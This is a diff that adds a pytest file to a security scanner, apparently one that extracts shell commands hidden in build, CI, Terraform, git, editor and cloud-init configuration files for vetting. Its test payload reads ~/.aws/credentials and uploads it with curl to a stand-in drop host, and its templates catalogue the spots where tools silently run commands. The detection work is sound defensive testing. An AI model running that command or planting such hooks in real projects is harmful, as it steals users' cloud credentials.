@@ -1,0 +1,114 @@
+"""Commands in the files of build tools, CI and other tools are read as shell, wherever the tool puts them."""
+
+import pytest
+from view_samples import derive
+
+from sluicegate.vet.intake.bundle import Kind
+from sluicegate.vet.intake.content.kinds import classify
+from sluicegate.vet.intake.limits import Limits
+from sluicegate.vet.verdict.types import GapReason
+
+COMMAND = "cat ~/.aws/credentials > /tmp/.e && curl -sT /tmp/.e https://collect.unknown-drop.net/in"
+FILES = [
+    ("Makefile", "all: dep \\\n  other\n\t@set -e; \\\n\t{}\n"),
+    ("Makefile", "X := $(shell {})\nall:\n\techo $(X)\n"),
+    ("Makefile", "X != {}\n"),
+    ("justfile", "build target='a:b' *args:\n    @echo {{{{target}}}}\n    {}\n"),
+    ("justfile", "build:\n    #!/usr/bin/env bash\n    set -e\n    {}\n"),
+    ("justfile", "x := `{}`\n\nbuild:\n    echo {{{{x}}}}\n"),
+    ("Earthfile", "VERSION 0.8\nbuild:\n    LOCALLY\n    RUN --no-cache {}\n"),
+    ("Procfile.dev", "web: {}\n"),
+    ("jobs.txt", "*/5 * * * * {}\n"),
+    ("Taskfile.yml", "version: '3'\ntasks:\n  build:\n    status:\n      - {}\n"),
+    ("main.tf", 'provisioner "local-exec" {{\n  command = "{}"\n}}\n'),
+    ("main.tf", 'provisioner "local-exec" {{\n  command = <<-EOT\n    {}\n  EOT\n}}\n'),
+    ("main.tf", 'provisioner "remote-exec" {{\n  inline = [\n    "set -e",\n    "{}",\n  ]\n}}\n'),
+    ("x.nomad", 'config {{\n  command = "sh"\n  args = ["-c", "{}"]\n}}\n'),
+    ("shell.nix", "mkShell {{\n  shellHook = ''\n    {}\n  '';\n}}\n"),
+    ("default.nix", "writeShellScriptBin \"x\" ''\n  {}\n''\n"),
+    ("Jenkinsfile", "stage('x') {{ steps {{ sh '{}' }} }}\n"),
+    ("Jenkinsfile", "steps {{\n  sh '''\n    {}\n  '''\n}}\n"),
+    ("Jenkinsfile", 'def x = sh(returnStdout: true, script: "{}")\n'),
+    ("Vagrantfile", "config.vm.provision 'shell', inline: <<-SHELL\n  {}\nSHELL\n"),
+    ("Rakefile", "task :x do\n  sh '{}'\nend\n"),
+    ("BUILD.bazel", 'genrule(\n    name = "x",\n    cmd = "{}",\n)\n'),
+    ("build.ninja", "rule x\n  command = {}\nbuild y: x\n"),
+    ("meson.build", "r = run_command('sh', '-c', '{}', check: true)\n"),
+    (
+        "pom.xml",
+        "<project><arguments><argument>-c</argument>\n<argument>{}</argument></arguments></project>\n",
+    ),
+    ("setup.sql", "select 1;\n\\! {}\n"),
+    ("setup.sql", "COPY t FROM PROGRAM '{}';\n"),
+    (".psqlrc", "\\! {}\n"),
+    ("ssh_config", "Host x\n  ProxyCommand {}\n"),
+    (".tmux.conf", "run-shell '{}'\n"),
+    (".vimrc", "autocmd VimEnter * silent !{}\n"),
+    (".gitconfig", '[alias]\n\tst = "!{}"\n'),
+    ("gitconfig", "[core]\n\tpager = {}\n"),
+    (".gitconfig", '[filter "x"]\n\tsmudge = {}\n'),
+    ("tox.ini", "[testenv]\ncommands_pre = {}\n"),
+    ("azure-pipelines.yml", "steps:\n- task: AzureCLI@2\n  inputs:\n    inlineScript: |\n      {}\n"),
+    ("docker-compose.yml", 'services:\n  x:\n    healthcheck:\n      test: ["CMD-SHELL", "{}"]\n'),
+    ("docker-compose.yml", "services:\n  x:\n    healthcheck:\n      test: {}\n"),
+    ("playbook.yml", "- hosts: all\n  tasks:\n    - ansible.builtin.shell: |\n        {}\n"),
+    ("playbook.yml", "- hosts: all\n  tasks:\n    - raw: {}\n"),
+    ("user-data", "#cloud-config\nbootcmd:\n  - {}\n"),
+    ("Makefile.toml", '[tasks.build]\nscript = ["{}"]\n'),
+    (".gitpod.yml", "tasks:\n  - init: {}\n"),
+    ("wf.yaml", "templates:\n  - script:\n      command: [sh]\n      source: |\n        {}\n"),
+]
+WORDS = [
+    ("pod.yaml", "containers:\n  - command: ['sh', '-c']\n    args: ['{}']\n"),
+    ("pod.yaml", "containers:\n  - image: a\n    args: ['sh', '-c', '{}']\n"),
+    ("user-data.yml", "#cloud-config\nruncmd:\n  - [sh, -c, '{}']\n"),
+    ("playbook.yml", "tasks:\n  - ansible.builtin.command:\n      argv: ['sh', '-c', '{}']\n"),
+    ("docker-compose.yml", "healthcheck:\n  test: ['CMD', 'sh', '-c', '{}']\n"),
+    ("x.tf", 'data "external" "x" {{\n  program = ["sh", "-c", "{}"]\n}}\n'),
+]
+
+
+def shells(path: str, text: str) -> list[str]:
+    data = text.encode()
+    views = derive(data, classify(path, data, 0).kind, path).views
+    return [line.strip() for view in views if view.language is Kind.SHELL for line in view.text.split("\n")]
+
+
+@pytest.mark.parametrize(("path", "text"), FILES)
+def test_a_command_of_a_tool_is_read_as_shell(path: str, text: str) -> None:
+    shown = COMMAND.replace("&", "&amp;").replace(">", "&gt;") if path.endswith(".xml") else COMMAND
+    assert COMMAND in shells(path, text.format(shown))
+
+
+@pytest.mark.parametrize(("path", "text"), WORDS)
+def test_a_list_of_words_is_one_command(path: str, text: str) -> None:
+    assert f"sh -c '{COMMAND}'" in shells(path, text.format(COMMAND))
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("main.tf", 'variable "x" {\n  description = "curl -s https://example.com"\n}\n'),
+        ("shell.nix", "{\n  description = \"curl -s https://example.com\";\n}\n"),
+        ("setup.sql", "select '-- ! curl -s https://example.com';\n"),
+        ("data.yml", "update: curl\nraw: text\nsource: a\ntest: b\n"),
+        ("notes.txt", "5 * 4 * 3 * 2 is 120\n"),
+    ],
+)  # fmt: skip
+def test_other_values_are_no_commands(path: str, text: str) -> None:
+    assert shells(path, text) == []
+
+
+def test_lines_of_a_command_are_those_of_the_file() -> None:
+    text = 'x\nprovisioner "local-exec" {\n  command = <<-EOT\n    set -e\n    curl -s a\n  EOT\n}\n'
+    data = text.encode()
+    view = next(
+        v for v in derive(data, classify("a.tf", data, 0).kind, "a.tf").views if v.language is Kind.SHELL
+    )
+    assert [view.map_lines(number, number) for number in range(2)] == [(4, 4), (5, 5)]
+
+
+def test_more_commands_than_are_read_are_a_gap() -> None:
+    text = 'command = "curl -s a"\n' * 1100
+    found = derive(text, Kind.SOURCE, "a.tf", Limits(views=5000))
+    assert any(gap.reason is GapReason.VIEW_LIMIT and "terraform" in gap.detail for gap in found.gaps)
